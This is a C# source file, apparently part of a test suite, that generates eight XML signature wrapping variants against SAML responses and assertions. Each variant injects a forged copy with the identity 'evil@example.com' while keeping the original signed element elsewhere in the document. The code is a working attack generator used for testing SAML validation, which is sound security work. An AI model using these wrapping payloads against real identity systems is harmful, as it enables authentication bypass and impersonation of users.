using System.Security.Cryptography.Xml;
using System.Xml;

namespace CognitoConsole.Testing;

/// <summary>The eight ways of signature wrapping that the tools know: what was signed is still there, at another place.</summary>
public static class SamlWrapping
{
    public const int Ways = 8;

    /// <summary>A copy with another name in it and without the signature.</summary>
    private static XmlElement Evil(XmlElement original, string id)
    {
        var evil = (XmlElement)original.CloneNode(deep: true);
        foreach (var signature in evil.SelectNodes("descendant::*[local-name()='Signature']")!.Cast<XmlElement>().ToList()) signature.ParentNode!.RemoveChild(signature);
        evil.SelectSingleNode("descendant::*[local-name()='NameID']")!.InnerText = "evil@example.com";
        if (id.Length > 0) evil.SetAttribute("ID", id);
        return evil;
    }

    private static XmlElement Signature(XmlElement element) => element.ChildNodes.OfType<XmlElement>().Single(e => e.LocalName == "Signature");

    /// <summary>Puts another person where one looks.</summary>
    /// <param name="way">1 and 2 for a signed response, the others for a signed assertion.</param>
    /// <param name="original">What is signed.</param>
    /// <param name="id">Of the other; empty: the same.</param>
    public static void Wrap(int way, XmlDocument document, XmlElement original, string id)
    {
        var evil = Evil(original, id);
        var signature = Signature(original);
        var parent = original.ParentNode!;
        switch (way)
        {
            case 1: // the original response in the signature of the other one
                original.RemoveChild(signature);
                document.ReplaceChild(evil, original);
                evil.PrependChild(signature);
                signature.AppendChild(original);
                break;
            case 2: // the original response beside its signature
                original.RemoveChild(signature);
                document.ReplaceChild(evil, original);
                evil.PrependChild(signature);
                evil.InsertBefore(original, signature);
                break;
            case 3: // the other assertion before the original
                parent.InsertBefore(evil, original);
                break;
            case 4: // the original in the other assertion
                parent.ReplaceChild(evil, original);
                evil.AppendChild(original);
                break;
            case 5: // the signature in the other assertion, the original behind it
                original.RemoveChild(signature);
                parent.ReplaceChild(evil, original);
                evil.PrependChild(signature);
                parent.AppendChild(original);
                break;
            case 6: // the original in the signature of the other assertion
                original.RemoveChild(signature);
                parent.ReplaceChild(evil, original);
                evil.PrependChild(signature);
                signature.AppendChild(original);
                break;
            case 7: // the other assertion in an extension
                var extensions = document.CreateElement("samlp", "Extensions", SamlIdentityProvider.Protocol);
                parent.InsertBefore(extensions, original);
                extensions.AppendChild(evil);
                break;
            default: // the original as an object of the other assertion's signature
                original.RemoveChild(signature);
                parent.ReplaceChild(evil, original);
                evil.PrependChild(signature);
                signature.AppendChild(document.CreateElement("Object", SignedXml.XmlDsigNamespaceUrl))!.AppendChild(original);
                break;
        }
    }
}
